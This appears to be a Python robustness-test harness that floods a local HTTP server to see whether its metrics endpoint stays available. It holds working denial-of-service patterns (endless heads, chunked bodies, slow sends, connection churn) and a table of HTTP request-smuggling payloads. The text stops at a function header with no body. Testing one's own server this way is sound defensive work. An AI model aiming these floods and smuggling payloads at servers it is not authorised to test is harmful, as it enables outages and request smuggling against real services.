#!/usr/bin/env python3
"""Attacks an HTTP server on this machine from outside, and measures how it bears it.

    attacks.py --plain HOST:PORT --tls HOST:PORT --pid PID [--pid-tls PID]
               [--scale 1.0] [--only NAME,NAME] [--skip NAME,NAME] [--json FILE] [--list]

While each attack is under way, a well-behaved scraper asks the attacked port for /metrics every 200 ms. An attack is
borne if no scrape failed, memory stayed below a limit, and the attacking connections ended when they had to.
Exit status: 0 all passed, 1 something failed, 2 the attack script itself does not work against this server.
"""

import argparse
import collections
import contextlib
import heapq
import itertools
import json
import os
import re
import resource
import selectors
import socket
import ssl
import statistics
import struct
import sys
import threading
import time
import zlib

# ---------------------------------------------------------------------------------------------- what is expected

HEAD_LIMIT = 20       # s from the connection's start until a request's head must be complete
HANDSHAKE_LIMIT = 10  # s for a TLS handshake
STALL_LIMIT = 30      # s in which a client must take something of its answer
IDLE_LIMIT = 20       # s without a request until a connection ends
BODY_LIMIT = 30       # s until a request whose body does not come must be over, whatever it was answered
GRACE = 5             # s on top of every limit: timers are coarse, and two cores are shared with the attacker
MAX_HEAD = 32 * 1024  # bytes of a head; more gives 431 or a close
MAX_HEADERS = 64      # header lines; more gives 431 or a close
MAX_BODY = 1024 * 1024  # bytes of a POST's body; more gives 413 or a close
MAX_SWALLOWED = 16 * 1024 * 1024  # bytes of an endless head or body that a server may read; loopback's buffers take some MiB

SCRAPE_EVERY = 0.2    # s
# A server may keep the number of connections down (256 is usual) and let others wait. Slow attacks that run at the
# same time stay below it together: otherwise one would only test how long the next one waits for its place.
WAVE_CONNECTIONS = 240
REFUSALS = {400, 408, 411, 413, 414, 417, 421, 426, 431, 501, 505}  # what says "not a request that I take"

# ---------------------------------------------------------------------------------------------- bytes


def head(line="GET /metrics HTTP/1.1", *lines):
    return "\r\n".join([line, "Host: 127.0.0.1", *lines, "", ""]).encode()


GET = head()
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
ACK = END_STREAM = 1
END_HEADERS = 4
INITIAL_WINDOW, MAX_STREAMS = 4, 3


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def settings(**values):
    ids = {"max_streams": MAX_STREAMS, "initial_window": INITIAL_WINDOW}
    return frame(SETTINGS, payload=b"".join(struct.pack(">HI", ids[name], value) for name, value in values.items()))


def hpack_string(text):
    raw = text.encode()
    if len(raw) < 127:
        return bytes([len(raw)]) + raw
    rest, out = len(raw) - 127, bytearray([127])
    while rest >= 128:
        out.append(rest % 128 + 128)
        rest //= 128
    out.append(rest)
    return bytes(out) + raw


def hpack(*pairs):
    # Literals without indexing: nothing here depends on a dynamic table, so blocks can be built once and repeated.
    return b"".join(b"\0" + hpack_string(name) + hpack_string(value) for name, value in pairs)


def request_block(method="GET", path="/metrics", *more):
    return hpack((":method", method), (":scheme", "https"), (":path", path), (":authority", "localhost"), *more)


GET_BLOCK = request_block()


def h2_get(stream):
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, GET_BLOCK)


def status_of(block):
    """The :status of an answer's header block. It is its first field, so the rest need not be understood."""
    while block and block[0] & 0xE0 == 0x20:  # a table size update
        block = block[1:] if block[0] & 0x1F < 0x1F else block[2:]
    if not block:
        return None
    if 0x88 <= block[0] <= 0x8E:
        return (200, 204, 206, 304, 400, 404, 500)[block[0] - 0x88]
    if block[0] in (*range(0x48, 0x4F), *range(0x08, 0x0F)) and len(block) > 1:
        raw = block[2:2 + (block[1] & 0x7F)]
        if not block[1] & 0x80:
            return int(raw)
        bits, digits = "".join(f"{byte:08b}" for byte in raw), ""
        huffman = {f"{digit:05b}": digit for digit in range(3)} | {f"{digit + 22:06b}": digit for digit in range(3, 10)}
        while len(digits) < 3 and bits:
            size = 5 if bits[:5] in huffman else 6
            digits, bits = digits + str(huffman.get(bits[:size], 0)), bits[size:]
        return int(digits or 0)
    return None


class H2:
    """What came over an HTTP/2 connection; acknowledges what a polite client would, unless told otherwise."""

    def __init__(self, acks=True):
        self.acks, self.rest = acks, b""
        self.statuses, self.resets, self.frames = collections.Counter(), collections.Counter(), collections.Counter()
        self.goaway, self.max_streams, self.body, self.done = None, None, 0, False

    def __call__(self, conn, data):
        self.rest += data
        at = 0
        while len(self.rest) - at >= 9:
            length = int.from_bytes(self.rest[at:at + 3], "big")
            if len(self.rest) - at < 9 + length:
                break
            kind, flags = self.rest[at + 3], self.rest[at + 4]
            payload = self.rest[at + 9:at + 9 + length]
            at += 9 + length
            self.frames[kind] += 1
            if kind == SETTINGS and not flags & ACK:
                for name, value in struct.iter_unpack(">HI", payload):
                    if name == MAX_STREAMS:
                        self.max_streams = value
                if self.acks:
                    conn.reply(frame(SETTINGS, ACK))
            elif kind == PING and not flags & ACK and self.acks:
                conn.reply(frame(PING, ACK, 0, payload))
            elif kind == HEADERS and (status := status_of(payload)):
                self.statuses[status] += 1
            elif kind == RST:
                self.resets[int.from_bytes(payload[:4], "big")] += 1
            elif kind == GOAWAY:
                self.goaway = int.from_bytes(payload[4:8], "big")
            elif kind == DATA:
                self.body += length
            if kind in (HEADERS, DATA) and flags & END_STREAM:
                self.done = True
        self.rest = self.rest[at:]


class H1:
    """Counts the status lines of what came, across the borders of reads."""

    def __init__(self):
        self.statuses, self.tail, self.order = collections.Counter(), b"", []

    def __call__(self, _conn, data):
        data = self.tail + data
        last = 0
        for match in re.finditer(rb"HTTP/1\.[01] (\d\d\d)[^\r\n]*\r\n", data):
            self.statuses[int(match[1])] += 1
            self.order.append(int(match[1]))
            last = match.end()
        self.tail = data[max(last, len(data) - 64):]


# ---------------------------------------------------------------------------------------------- connections


def tls_context(*protocols):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    if protocols:
        context.set_alpn_protocols(list(protocols))
    return context


CONTEXTS = {"http/1.1": tls_context("http/1.1"), "h2": tls_context("h2")}


class Conn:
    """An attacking connection. `sends` gives bytes to send and numbers of seconds to wait between them."""

    def __init__(self, address, sends=(), tls=None, read=True, seen=None, tight=False, since="open"):
        self.address, self.sends, self.tls, self.read, self.since = address, iter(sends), tls, read, since
        self.seen = seen if seen is not None else (H2() if tls == "h2" else H1())
        self.sent = self.received = 0
        self.out, self.replies = memoryview(b""), bytearray()
        self.state, self.paused_until = "connecting", 0
        self.opened, self.progress, self.connected = time.monotonic(), time.monotonic(), None
        self.ended, self.how, self.cause, self.selected = None, None, "", 0
        self.sock = socket.socket(socket.AF_INET6 if ":" in address[0] else socket.AF_INET)
        self.sock.setblocking(False)
        if tight:
            # Loopback's buffers take megabytes before anything stalls; a small receive buffer and a small segment size,
            # from which the server's kernel derives its send buffer, make "reads nothing" felt after some 100 KiB.
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 32768)
            self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, 536)
        self.sock.connect_ex(address)
        self.port = self.sock.getsockname()[1]

    def reply(self, data):
        self.replies += data

    def start_of_limit(self):
        return self.opened if self.since == "open" else self.progress

    def is_quiet(self):
        """All is sent, and no more comes."""
        return self.paused_until == float("inf") and not self.out and time.monotonic() - self.progress > 0.7

    def end(self, how, cause=""):
        if not self.ended:
            self.ended, self.how, self.cause = time.monotonic(), how, cause


class Engine(threading.Thread):
    """Drives all attacking connections in one thread. Only this thread touches their sockets."""

    def __init__(self):
        super().__init__(daemon=True)
        self.selector, self.conns, self.new, self.dropped, self.timers = selectors.DefaultSelector(), set(), [], [], []
        self.order, self.lock = itertools.count(), threading.Lock()
        self.wake_in, self.wake_out = socket.socketpair()
        self.wake_out.setblocking(False)
        self.selector.register(self.wake_out, selectors.EVENT_READ, None)
        self.failure = None

    def open(self, conns):
        with self.lock:
            self.new += conns
        self.wake_in.send(b"x")
        return conns

    def drop(self, conns):
        with self.lock:
            self.dropped += conns
        self.wake_in.send(b"x")

    def run(self):
        try:
            while True:
                self.turn()
        except BaseException as error:  # a silent end of this thread would look like a server that never answers
            self.failure = error
            raise

    def turn(self):
        with self.lock:
            new, self.new, dropped, self.dropped = self.new, [], self.dropped, []
        for conn in new:
            self.conns.add(conn)
            self.select(conn)
        for conn in dropped:
            self.close(conn, "by us")
        now = time.monotonic()
        while self.timers and self.timers[0][0] <= now:
            conn = heapq.heappop(self.timers)[2]
            if conn in self.conns:
                self.select(conn)
        wait = min(0.2, self.timers[0][0] - now) if self.timers else 0.2
        for key, events in self.selector.select(max(wait, 0)):
            if key.data is None:
                with contextlib.suppress(BlockingIOError):
                    self.wake_out.recv(4096)
                continue
            self.step(key.data, events)
        for conn in [conn for conn in self.conns if conn.ended]:  # found dead by the watcher
            self.close(conn, conn.how)

    def step(self, conn, events):
        try:
            if conn.state == "connecting":
                if error := conn.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                    return self.close(conn, "refused", os.strerror(error))
                conn.connected = conn.progress = time.monotonic()
                conn.state = "open"
                if conn.tls:
                    self.selector.unregister(conn.sock)
                    conn.selected = 0
                    conn.sock = CONTEXTS[conn.tls].wrap_socket(
                        conn.sock, server_hostname="localhost", do_handshake_on_connect=False)
                    conn.state = "handshake"
            if conn.state == "handshake":
                conn.sock.do_handshake()
                conn.state, conn.progress = "open", time.monotonic()
                if conn.sock.selected_alpn_protocol() != conn.tls:
                    return self.close(conn, "no ALPN " + conn.tls)
            if conn.state == "open":
                if events & selectors.EVENT_READ and conn.read:
                    self.receive(conn)
                self.send(conn)
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
            pass
        except (ssl.SSLZeroReturnError, ssl.SSLEOFError):
            return self.close(conn, "closed")
        except ssl.SSLError as error:
            return self.close(conn, "alert", error.reason or str(error))
        except OSError as error:
            return self.close(conn, "reset", os.strerror(error.errno) if error.errno else str(error))
        if not conn.ended:
            self.select(conn)
        return None

    def receive(self, conn):
        for _ in range(8):
            try:
                data = conn.sock.recv(65536)
            except (ssl.SSLWantReadError, BlockingIOError):
                return
            if not data:
                return self.close(conn, "closed")
            conn.received += len(data)
            conn.progress = time.monotonic()
            conn.seen(conn, data)
        return None

    def send(self, conn):
        if conn.ended:
            return
        for _ in range(4):  # not more at a time: the other connections must get their turn
            if not conn.out:
                # Not before our own first bytes: an acknowledgement in front of the preface is no preface.
                if conn.replies and conn.sent:
                    conn.out, conn.replies = memoryview(bytes(conn.replies)), bytearray()
                elif conn.paused_until > time.monotonic():
                    return
                else:
                    item = next(conn.sends, None)
                    if item is None:
                        conn.sends, conn.paused_until = iter(()), float("inf")
                        return
                    if not isinstance(item, (bytes, bytearray)):
                        conn.paused_until = time.monotonic() + item
                        heapq.heappush(self.timers, (conn.paused_until, next(self.order), conn))
                        return
                    conn.out = memoryview(item)
                    if not item:
                        continue
            try:
                done = conn.sock.send(conn.out)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                return
            conn.out = conn.out[done:]
            conn.sent += done
            conn.progress = time.monotonic()

    def select(self, conn):
        wants_write = (conn.state == "connecting" or conn.out or (conn.replies and conn.sent)
                       or conn.paused_until <= time.monotonic())
        events = selectors.EVENT_WRITE if wants_write and conn.state != "handshake" else 0
        if conn.state == "handshake" or (conn.read and conn.state == "open"):
            events |= selectors.EVENT_READ
        if conn.state == "handshake" and not conn.selected:
            events |= selectors.EVENT_WRITE  # its first step is ours
        if events == conn.selected:
            return
        if not events:
            self.selector.unregister(conn.sock)
        elif conn.selected:
            self.selector.modify(conn.sock, events, conn)
        else:
            self.selector.register(conn.sock, events, conn)
        conn.selected = events

    def close(self, conn, how, cause=""):
        conn.end(how, cause)
        if conn in self.conns:
            self.conns.discard(conn)
            if conn.selected:
                self.selector.unregister(conn.sock)
            conn.selected = 0
            conn.sock.close()


# ---------------------------------------------------------------------------------------------- measuring


def kernel_table(ports):
    """(client port, server port) of the server's ends -> is it accepted, for those which it still holds."""
    held = {}
    for name in ("/proc/net/tcp", "/proc/net/tcp6"):
        with contextlib.suppress(FileNotFoundError), open(name) as file:
            next(file)
            for line in file:
                fields = line.split(None, 10)
                local = int(fields[1][-4:], 16)
                if local in ports and (fields[9] != "0" or fields[3] in ("01", "08")):
                    held[int(fields[2][-4:], 16), local] = fields[9] != "0"
    return held


class Process:
    def __init__(self, pid):
        self.pid = pid
        self.samples = collections.deque()  # (time, RSS KiB, descriptors)

    def memory(self):
        with open(f"/proc/{self.pid}/status") as file:
            fields = dict(line.split(":", 1) for line in file)
        return int(fields["VmRSS"].split()[0]), int(fields["VmHWM"].split()[0])

    def descriptors(self):
        return len(os.listdir(f"/proc/{self.pid}/fd"))

    def reset_peak(self):
        # Lets VmHWM begin anew, which no sampling can miss. Without the right to do it the samples must do.
        try:
            with open(f"/proc/{self.pid}/clear_refs", "w") as file:
                file.write("5")
            return True
        except OSError:
            return False


class Watcher(threading.Thread):
    """Samples the processes, and finds ended connections whose client does not read and so cannot notice."""

    def __init__(self, engine, processes, ports):
        super().__init__(daemon=True)
        self.engine, self.processes, self.ports, self.gone = engine, processes, ports, False
        self.held = {}

    def run(self):
        for turn in itertools.count():
            now = time.monotonic()
            for process in self.processes:
                try:
                    process.samples.append((now, process.memory()[0], process.descriptors()))
                except (OSError, KeyError):
                    self.gone = True
            if turn % 4 == 0:
                blind = [conn for conn in list(self.engine.conns) if not conn.read and conn.connected and not conn.ended]
                self.held = kernel_table(self.ports)
                for conn in blind:
                    if conn.connected < now - 0.5 and (conn.port, conn.address[1]) not in self.held:
                        conn.end("cut")
            time.sleep(max(0.02, 0.12 - (time.monotonic() - now)))


class Scraper(threading.Thread):
    """The client that must not suffer."""

    def __init__(self, address, tls, limit):
        super().__init__(daemon=True)
        self.address, self.tls, self.limit = address, tls, limit
        self.results = []  # (start, end, error or None)
        self.under_way = float("inf")  # when the scrape that is not yet over began

    def once(self):
        until = time.monotonic() + self.limit
        with socket.create_connection(self.address, timeout=self.limit) as raw:
            raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)  # else Nagle adds 40 ms behind the handshake
            sock = CONTEXTS["http/1.1"].wrap_socket(raw, server_hostname="localhost") if self.tls else raw
            sock.sendall(head("GET /metrics HTTP/1.1", "Accept-Encoding: gzip", "Connection: close"))
            data = bytearray()
            while True:
                sock.settimeout(max(0.01, until - time.monotonic()))
                try:
                    piece = sock.recv(65536)
                except ssl.SSLEOFError:
                    piece = b""
                if not piece:
                    break
                data += piece
            if sock is not raw:
                sock.close()
        return check_answer(bytes(data))

    def run(self):
        while True:
            start, error = time.monotonic(), None
            self.under_way = start
            try:
                self.once()
            except Exception as problem:
                error = f"{type(problem).__name__}: {problem}"
            end = time.monotonic()
            if not error and end - start > self.limit:
                error = f"took {end - start:.1f} s"
            self.results.append((start, end, error))
            self.under_way = float("inf")
            time.sleep(max(0.0, start + SCRAPE_EVERY - end))

    def within(self, start, end):
        # A scrape that the attack holds up must count, and is over only later.
        until = time.monotonic() + 2 * self.limit
        while self.under_way <= end and time.monotonic() < until:
            time.sleep(0.02)
        return [result for result in list(self.results) if result[1] >= start and result[0] <= end]


def check_answer(data):
    """The page of a complete answer with 200; raises otherwise. A page cut short must not pass as a good scrape."""
    top, found, body = data.partition(b"\r\n\r\n")
    if not found or not re.match(rb"HTTP/1\.[01] 200 ", top):
        raise ValueError(f"answered {data[:60]!r}")
    fields = {name.strip().lower(): value.strip() for name, _, value in
              (line.partition(b":") for line in top.split(b"\r\n")[1:])}
    if b"content-length" in fields:
        if len(body) != int(fields[b"content-length"]):
            raise ValueError(f"body of {len(body)} bytes instead of {fields[b'content-length'].decode()}")
    elif fields.get(b"transfer-encoding") == b"chunked":
        whole, rest = b"", body
        while True:
            size, _, rest = rest.partition(b"\r\n")
            if not size:
                raise ValueError("chunked body cut short")
            size = int(size, 16)
            if size == 0:
                break
            whole, rest = whole + rest[:size], rest[size + 2:]
        body = whole
    if fields.get(b"content-encoding") == b"gzip":
        unzip = zlib.decompressobj(31)
        body = unzip.decompress(body)
        if not unzip.eof:
            raise ValueError("gzip cut short")
    if b"# TYPE" not in body:
        raise ValueError("not a page of metrics")
    return body


# ---------------------------------------------------------------------------------------------- the attacks

Attack = collections.namedtuple("Attack", "name function port count limit slow must_end alone floor")
ATTACKS = []


def attack(name, port, count, limit, slow=False, must_end=True, alone=False, floor=1):
    """`count`: connections at scale 1 (`floor` at least). `slow`: waits for a timer, so it shares a wave with others.
    `must_end`: the server must have ended all connections within `limit` + GRACE; else they are just closed then."""
    def add(function):
        ATTACKS.append(Attack(name, function, port, count, limit, slow, must_end, alone, floor))
        return function
    return add


class Shot:
    """What an attack did: its connections, a text, and optionally what else to demand of them once they are over."""

    def __init__(self, conns, what, judge=None):
        self.conns, self.what, self.judge, self.detail = conns, what, judge, []


def drip(data, every=1.0):
    for at in range(len(data)):
        yield data[at:at + 1]
        yield every


def repeat(chunk, total=None):
    """`chunk` for ever, or until `total` bytes."""
    return itertools.repeat(chunk) if total is None else itertools.repeat(chunk, max(1, total // len(chunk)))


def then(*parts):
    for part in parts:
        if isinstance(part, (bytes, int, float)):
            yield part
        else:
            yield from part


def refused(conns):
    """For heads and bodies over a limit: any answer other than a refusal means that the limit was not applied."""
    bad = collections.Counter()
    for conn in conns:
        bad.update({status: n for status, n in conn.seen.statuses.items()
                    if status not in REFUSALS and not (status in (401, 404, 405) and conn.ended and conn.how != "by us")})
    problems = [f"{n} x {status} although over the limit" for status, n in bad.items()]
    if swallowed := [conn.sent for conn in conns if conn.sent > MAX_SWALLOWED]:
        problems.append(f"{len(swallowed)} went on reading, up to {brief(max(swallowed))}")
    return problems


def h2(address, *parts, opening=None, **options):
    return Conn(address, then(PREFACE + (opening or settings()), *parts), tls="h2", **options)


# --- HTTP/1, fast


@attack("endless header lines", "plain", 20, HEAD_LIMIT)
def endless_header_lines(address, n, _scale):
    """A head that never ends must not be collected until memory is full.
    It is sent as fast as it is taken, so the limit on bytes must cut it long before the timer."""
    lines = b"".join(b"X-%d: y\r\n" % i for i in range(5000))
    return Shot([Conn(address, then(GET[:-2], repeat(lines))) for _ in range(n)], "header lines for ever", refused)


@attack("endless single header", "plain", 20, HEAD_LIMIT)
def endless_single_header(address, n, _scale):
    """One value without an end: no line is ever complete, so a limit on the number of lines does not help.
    A parser that starts over with every read would also take quadratic time."""
    return Shot([Conn(address, then(GET[:-2], b"X: ", repeat(b"a" * 65536))) for _ in range(n)], "one value", refused)


@attack("endless request line", "plain", 20, HEAD_LIMIT)
def endless_request_line(address, n, _scale):
    """The same before any header, where a limit on header bytes might not count yet."""
    return Shot([Conn(address, then(b"GET /", repeat(b"a" * 65536))) for _ in range(n)], "one request line", refused)


@attack("oversized URI", "plain", 21, HEAD_LIMIT, floor=3)
def oversized_uri(address, n, _scale):
    """A complete request whose target alone is over the limit of the head.
    It ends with a valid head, so only the size can be the reason to refuse it."""
    sizes = itertools.cycle((MAX_HEAD + 1024, 65_000, 1_000_000))
    return Shot([Conn(address, [head("GET /metrics?" + "a" * next(sizes) + " HTTP/1.1", "Connection: close")]) for _ in range(n)],
                "33 KiB, 64 KiB, 1 MB", refused)


@attack("head just over limits", "plain", 21, HEAD_LIMIT, floor=3)
def head_over_limits(address, n, _scale):
    """65 header lines, or 33 KiB in one or in few of them: just above what is promised to be the limit.
    Also shows that the limits are those which are documented, not merely some."""
    shapes = itertools.cycle((
        [f"X-{i}: y" for i in range(MAX_HEADERS - 1)],  # with Host and Connection
        ["X: " + "a" * (MAX_HEAD + 1024)],
        [f"X-{i}: " + "a" * 1100 for i in range(31)]))
    return Shot([Conn(address, [head("GET /metrics HTTP/1.1", "Connection: close", *next(shapes))]) for _ in range(n)],
                "65 lines, 33 KiB in 1 or 31", refused)


@attack("body over limit", "plain", 20, BODY_LIMIT, floor=4)
def body_over_limit(address, n, _scale):
    """Twice the allowed body, declared or in chunks, and chunks for ever.
    What is refused at once may be drained for a while, but not without an end."""
    post = "POST /api/v1/messages HTTP/1.1"
    chunk = b"10000\r\n" + b"a" * 65536 + b"\r\n"
    shapes = itertools.cycle((
        lambda: then(head(post, f"Content-Length: {2 * MAX_BODY}"), repeat(b"a" * 65536, 2 * MAX_BODY)),
        lambda: then(head(post, "Transfer-Encoding: chunked"), repeat(chunk))))
    return Shot([Conn(address, next(shapes)()) for _ in range(n)], "2 MiB declared; endless chunks", refused)


@attack("chunk tricks", "plain", 24, BODY_LIMIT, floor=8)
def chunk_tricks(address, n, _scale):
    """Extensions, trailers and leading zeros of chunk sizes are outside the body, so a limit on it misses them.
    Sent for ever, on a path that reads bodies and on one that does not."""
    trailers = b"".join(b"T-%d: x\r\n" % i for i in range(5000))
    floods = itertools.cycle((
        lambda: then(b"1;", repeat(b"a=b;" * 16000)),                  # an extension without an end
        lambda: repeat(b"1;a=bbbbbbbbbbbbbbbb\r\nx\r\n" * 2500),       # one on each of endless tiny chunks
        lambda: then(b"0\r\n", repeat(trailers)),
        lambda: repeat(b"0" * 65536)))                                 # a size of zeros only
    paths = itertools.cycle(("/api/v1/messages",) * 4 + ("/metrics",) * 4)
    return Shot([Conn(address, then(head(f"POST {next(paths)} HTTP/1.1", "Transfer-Encoding: chunked"), next(floods)()))
                 for _ in range(n)], "extensions, trailers, zeros")


# Kinds of verdict on a smuggling shape.
REJECT = "must be refused"                 # 400 or a close; anything else means that it was believed
ONE = "the second must not be answered"    # which of two readings is taken is free, a second answer is not
CLEAR = "refused, or both answered"        # there is only one reading; a server may be stricter

FRONT = "POST /smuggle-front HTTP/1.1\r\nHost: a\r\n"
BEHIND = "GET /metrics HTTP/1.1\r\nHost: a\r\n\r\n"  # its 200 is what must not appear: the front never gives 200
SIZE = len(BEHIND)
CHUNKED_BEHIND = f"{SIZE:x}\r\n{BEHIND}\r\n0\r\n\r\n"
SMUGGLING = {
    "control: two requests": (CLEAR, FRONT + "Content-Length: 0\r\n\r\n" + BEHIND),
    "CL covers, TE ends": (ONE, FRONT + f"Content-Length: {SIZE + 5}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + BEHIND),
    "TE before CL": (ONE, FRONT + f"Transfer-Encoding: chunked\r\nContent-Length: {SIZE + 5}\r\n\r\n0\r\n\r\n" + BEHIND),
    "TE covers, CL ends": (ONE, FRONT + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n" + CHUNKED_BEHIND),
    "CL 0, CL covers": (REJECT, FRONT + f"Content-Length: 0\r\nContent-Length: {SIZE}\r\n\r\n" + BEHIND),
    "CL covers, CL 0": (REJECT, FRONT + f"Content-Length: {SIZE}\r\nContent-Length: 0\r\n\r\n" + BEHIND),
    "TE chunked, identity": (ONE, FRONT + "Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n" + BEHIND),
    "TE identity and CL": (ONE, FRONT + f"Transfer-Encoding: identity\r\nContent-Length: {SIZE + 5}\r\n\r\n0\r\n\r\n" + BEHIND),
    "TE xchunked": (ONE, FRONT + "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + BEHIND),
    "TE twice": (ONE, FRONT + "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n"
                 f"Content-Length: {SIZE + 5}\r\n\r\n0\r\n\r\n" + BEHIND),
    "TE: two spaces": (CLEAR, FRONT + "Transfer-Encoding:  chunked\r\n\r\n0\r\n\r\n" + BEHIND),
    "TE: vertical tab": (ONE, FRONT + "Transfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n" + BEHIND),
    "TE in HTTP/1.0": (ONE, FRONT.replace("1.1", "1.0") + "Connection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + BEHIND),
    "obs-fold before TE": (ONE, FRONT + f"X: y\r\n Transfer-Encoding: chunked\r\nContent-Length: {SIZE + 5}\r\n\r\n0\r\n\r\n" + BEHIND),
    "obs-fold in TE": (ONE, FRONT + f"Transfer-Encoding:\r\n chunked\r\nContent-Length: {SIZE + 5}\r\n\r\n0\r\n\r\n" + BEHIND),
    "obs-fold, harmless": (CLEAR, FRONT + "X: y\r\n z\r\nContent-Length: 0\r\n\r\n" + BEHIND),
    "space before first header": (ONE, "POST /smuggle-front HTTP/1.1\r\n Transfer-Encoding: chunked\r\nHost: a\r\n"
                                  f"Content-Length: {SIZE + 5}\r\n\r\n0\r\n\r\n" + BEHIND),
    "bare LF hides CL": (ONE, FRONT + f"X: y\nContent-Length: {SIZE}\r\n\r\n" + BEHIND),
    "bare LF in chunks": (ONE, FRONT + "Transfer-Encoding: chunked\r\n\r\n0\n\n" + BEHIND),
    "bare LF in extension": (ONE, FRONT + f"Transfer-Encoding: chunked\r\n\r\n2;\nxx\r\n{SIZE:x}\r\n0\r\n\r\n" + BEHIND),
    "bare LF everywhere": (CLEAR, (FRONT + "Content-Length: 0\r\n\r\n" + BEHIND).replace("\r", "")),
    "bare CR hides CL": (ONE, FRONT + f"X: y\rContent-Length: {SIZE}\r\n\r\n" + BEHIND),
    "space before colon": (REJECT, FRONT + f"Content-Length : {SIZE}\r\n\r\n" + BEHIND),
    "NUL in value": (REJECT, FRONT + "X: a\0b\r\nContent-Length: 0\r\n\r\n" + BEHIND),
    "NUL in name": (REJECT, FRONT + f"Content-Length\0: {SIZE}\r\n\r\n" + BEHIND),
    "absolute-form, other host": (CLEAR, "GET http://other.example/smuggle-front HTTP/1.1\r\nHost: a\r\n\r\n" + BEHIND),
    "CL +n": (REJECT, FRONT + f"Content-Length: +{SIZE}\r\n\r\n" + BEHIND),
    "CL 0x": (REJECT, FRONT + f"Content-Length: 0x{SIZE:x}\r\n\r\n" + BEHIND),
    "CL 5 5": (REJECT, FRONT + "Content-Length: 5 5\r\n\r\n" + BEHIND),
    "CL -1": (REJECT, FRONT + "Content-Length: -1\r\n\r\n" + BEHIND),
    "CL 2^64": (REJECT, FRONT + "Content-Length: 18446744073709551616\r\n\r\n" + BEHIND),
    "CL empty": (REJECT, FRONT + "Content-Length:\r\n\r\n" + BEHIND),
    "chunk size 2^64": (ONE, FRONT + "Transfer-Encoding: chunked\r\n\r\n10000000000000000\r\n" + BEHIND),
    "chunk size +0": (ONE, FRONT + "Transfer-Encoding: chunked\r\n\r\n+0\r\n\r\n" + BEHIND),
    "chunk size 0x0": (ONE, FRONT + "Transfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n" + BEHIND),
}


@attack("smuggling shapes", "plain", len(SMUGGLING), 2, must_end=False, floor=len(SMUGGLING))
def smuggling(address, _n, _scale):
    """Where two readers of the same bytes can disagree about where a request ends, a proxy before the server lets
    a second request through unseen. Each shape carries one; its 200 shows that it was answered."""
    conns = {name: Conn(address, [text.encode("latin-1")]) for name, (_, text) in SMUGGLING.items()}

    def judge(_):
        problems = []
        for name, conn in conns.items():
            kind, order = SMUGGLING[name][0], conn.seen.order
            was_refused = (not order and conn.how in ("closed", "reset")) or (len(order) == 1 and order[0] in REFUSALS)
            second = 200 in order
            # A refused second is the rest of the bytes read as garbage, which does no harm.
            fits = {REJECT: was_refused,
                    ONE: not second and all(status in REFUSALS for status in order[1:]),
                    CLEAR: was_refused or (len(order) == 2 and order[1] == 200)}[kind]
            shot.detail.append({"shape": name, "demand": kind, "statuses": order, "end": conn.how, "ok": fits})
            if not fits:
                problems.append(f"{name}: {order} {conn.how} ({kind})")
        return problems

    shot = Shot(list(conns.values()), f"{len(conns)} shapes", judge)
    return shot


@attack("version lines", "plain", 8, 3, must_end=False, floor=8)
def version_lines(address, _n, _scale):
    """0.9 has no headers, 1.0 no keep-alive, 2.0 and 3.0 cannot be spoken here.
    Only 1.0 may be answered with the page, and must then be closed."""
    lines = {b"GET /metrics\r\n\r\n": False, b"GET /metrics HTTP/0.9\r\n\r\n": False,
             b"GET /metrics HTTP/1.0\r\n\r\n": True, b"GET /metrics HTTP/2.0\r\nHost: a\r\n\r\n": False,
             b"GET /metrics HTTP/3.0\r\nHost: a\r\n\r\n": False, b"GET /metrics HTTP/1.11\r\nHost: a\r\n\r\n": False,
             b"GET /metrics http/1.1\r\nHost: a\r\n\r\n": False, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n": False}
    conns = {line: Conn(address, [line]) for line in lines}

    def judge(_):
        problems = []
        for line, conn in conns.items():
            order, closed = conn.seen.order, conn.how in ("closed", "reset")
            good = order == [200] if lines[line] else all(status in REFUSALS for status in order)
            shot.detail.append({"line": repr(line[:24]), "statuses": order, "end": conn.how, "ok": good and closed})
            if not (good and closed):
                problems.append(f"{line[:24]!r}: {order} {conn.how}")
        return problems

    shot = Shot(list(conns.values()), f"{len(conns)} version lines", judge)
    return shot


def churn(address, scale):
    """Half of the connections end by RST, so that accept() can find them dead already."""
    failed, total = 0, max(100, int(5000 * scale))
    for number in range(total):
        try:
            with socket.create_connection(address, timeout=5) as sock:
                if number % 2:
                    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        except OSError:
            failed += 1
            if failed > 3:
                break
    return Shot([], f"{total} connects", lambda _: [f"{failed} could not connect"] if failed else [])


@attack("churn", "plain", 0, 1, must_end=False)
def churn_plain(address, _n, scale):
    """Connections that are over before they are served cost a task and a descriptor each.
    They must be given back as fast as they come."""
    return churn(address, scale)


@attack("churn on TLS", "tls", 0, 1, must_end=False)
def churn_tls(address, _n, scale):
    """The same where a handshake would begin."""
    return churn(address, scale)


# --- HTTP/1, slow


@attack("slow headers", "plain", 200, HEAD_LIMIT, slow=True)
def slow_headers(address, n, _scale):
